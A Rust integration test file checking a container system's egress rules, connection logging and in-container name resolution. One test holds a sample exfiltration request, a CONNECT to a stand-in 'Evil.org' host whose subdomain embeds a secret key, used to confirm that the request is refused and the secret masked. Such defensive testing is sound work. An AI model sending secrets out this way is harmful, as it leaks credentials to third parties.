//! The way out of a real container.

use std::sync::atomic::Ordering;
use std::time::Duration;

use proto::connection::ConnectionState;
use tokio::time::timeout;

use crate::cluster::Cluster;
use crate::skip;
use crate::world::{rule, server, tcp};

#[tokio::test(flavor = "multi_thread")]
async fn a_container_gets_out_only_through_its_rules() {
    if skip() {
        return;
    }
    let (port, count) = server().await;
    let cluster = Cluster::start().await;
    let get = |host: &str| {
        format!("GET http://{host}:{port}/x HTTP/1.1\r\nHost: x\r\nConnection: close\r\n\r\n")
    };
    let answer = cluster.egress(&get("127.0.0.1"), vec![]).await;
    assert!(answer.starts_with("no egress"), "{answer}");
    let answer = cluster.egress(&get("127.0.0.1"), vec![rule("127.0.0.1", port, false)]).await;
    assert!(answer.starts_with("HTTP/1.1 403"), "{answer}");
    assert_eq!(count.load(Ordering::SeqCst), 0);
    let answer = cluster.egress(&get("127.0.0.1"), vec![rule("127.0.0.1", port, true)]).await;
    assert!(answer.starts_with("HTTP/1.1 200") && answer.contains("GET /x"), "{answer}");
    cluster.stop().await;
}

#[tokio::test(flavor = "multi_thread")]
async fn what_a_container_connects_to_stays_known() {
    if skip() {
        return;
    }
    let (port, _) = server().await;
    let cluster = Cluster::start().await;
    let get = |host: &str| {
        format!("GET http://{host}:{port}/x HTTP/1.1\r\nHost: x\r\nConnection: close\r\n\r\n")
    };
    let with = |behaviour: &str, request: &str| {
        let mut assignment = cluster.assignment(behaviour, request);
        assignment.egress = vec![tcp("127.0.0.1", port)];
        assignment
    };
    // Told before the report, and masked: a refused name is a way to show a secret, too.
    let leak = "CONNECT key-4711aaaa.Evil.org:443 HTTP/1.1\r\nConnection: close\r\n\r\n";
    let mut assignment = with("egress", leak);
    assignment.task.variables.insert("KEY".into(), "KEY-4711AAAA".into());
    assignment.secrets.insert("KEY".into());
    let attempt = assignment.attempt;
    cluster.result(assignment).await;
    let told = cluster.scheduler.with(|state| state.connections.get(&attempt).cloned());
    let told = told.expect("told before the report").entries;
    assert_eq!((told[0].host.as_str(), told[0].port), ("**********.evil.org", 443));
    assert_eq!(told[0].state, ConnectionState::Refused);
    let reason = told[0].reason.clone().unwrap();
    assert!(reason.contains("no egress rule") && !reason.contains("4711"), "{reason}");

    let attempt = cluster.submit(with("egress", &get("127.0.0.1"))).await;
    cluster.report(attempt).await;
    let told = cluster.connections(attempt).await;
    assert_eq!((told.len(), told[0].state), (1, ConnectionState::Closed));
    assert!(told[0].bytes_up > 0 && told[0].bytes_down > 0, "{told:?}");

    // An attempt that is told to stop has no report; its connections are known all the same.
    let connect = format!("CONNECT 127.0.0.1:{port} HTTP/1.1\r\nHost: x\r\n\r\n");
    let attempt = cluster.submit(with("egress-hold", &connect)).await;
    let open = async {
        while cluster.events(attempt.run).await.is_empty() {
            tokio::time::sleep(Duration::from_millis(10)).await;
        }
    };
    timeout(Duration::from_secs(30), open).await.unwrap();
    cluster.order_stop(attempt).await;
    let told = cluster.connections(attempt).await;
    assert_eq!((told[0].host.as_str(), told[0].port), ("127.0.0.1", port));
    assert_eq!(told[0].state, ConnectionState::Closed);
    cluster.stop().await;
}

#[tokio::test(flavor = "multi_thread")]
async fn names_of_tcp_rules_resolve_inside() {
    if skip() {
        return;
    }
    let cluster = Cluster::start().await;
    let hosts = async |rules| {
        let mut assignment = cluster.assignment("hosts", "");
        assignment.egress = rules;
        crate::cluster::text_of(&cluster.result(assignment).await)
    };
    let plain = hosts(vec![rule("api.org", 443, false)]).await;
    assert!(plain.contains("127.0.0.1\tlocalhost") && !plain.contains("127.1.0."), "{plain}");
    let mapped = hosts(vec![tcp("db.internal", 5432), tcp("cache.internal", 6379)]).await;
    assert_eq!(
        mapped.strip_prefix(&plain),
        Some("127.1.0.1\tdb.internal\n127.1.0.2\tcache.internal\n"),
        "{mapped}"
    );
    cluster.stop().await;
}
